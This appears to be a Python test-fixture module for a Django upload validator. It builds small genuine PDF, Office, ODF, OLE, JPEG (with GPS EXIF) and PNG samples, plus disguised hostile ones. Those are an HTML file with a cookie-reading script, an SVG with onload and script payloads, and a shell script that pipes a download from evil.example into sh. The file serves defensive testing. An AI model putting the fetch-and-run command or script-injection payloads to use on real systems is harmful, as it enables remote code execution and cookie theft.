"""Sample files for upload tests: real ones of each type, and disguised ones."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

# A one-page PDF: header, catalog, pages, page, cross-reference table, trailer, %%EOF.
PDF_BYTES = (
    b"%PDF-1.4\n"
    b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
    b"xref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n"
    b"0000000052 00000 n \n0000000101 00000 n \n"
    b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n164\n%%EOF\n"
)

OOXML_MAIN = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
}


def ooxml_bytes(kind="docx"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'content-types"><Override PartName="/main.xml" ContentType="{OOXML_MAIN[kind]}"/>'
            "</Types>",
        )
        archive.writestr("main.xml", "<document/>")
    return buffer.getvalue()


def odf_bytes(mimetype="application/vnd.oasis.opendocument.text"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def ole_bytes(stream="WordDocument"):
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    return header + stream.encode("utf-16-le") + b"\x00" * 512


def jpeg_bytes(size=(64, 48), *, gps=False, orientation=None, color=(200, 30, 30)):
    image = Image.new("RGB", size, color)
    exif = Image.Exif()
    exif[0x010F] = "Camera maker"  # Make
    exif[0x013B] = "Photographer Name"  # Artist
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "N", 2: (52.0, 28.0, 59.0), 3: "W", 4: (1.0, 53.0, 25.0)}
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def png_bytes(size=(40, 30), mode="RGBA"):
    buffer = io.BytesIO()
    Image.new(mode, size, (0, 128, 0, 128) if mode == "RGBA" else (0, 128, 0)).save(buffer, "PNG")
    return buffer.getvalue()


HTML_BYTES = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_BYTES = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(2)</script></svg>"
)
SCRIPT_BYTES = b"#!/bin/sh\ncurl http://evil.example/ | sh\n"


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)
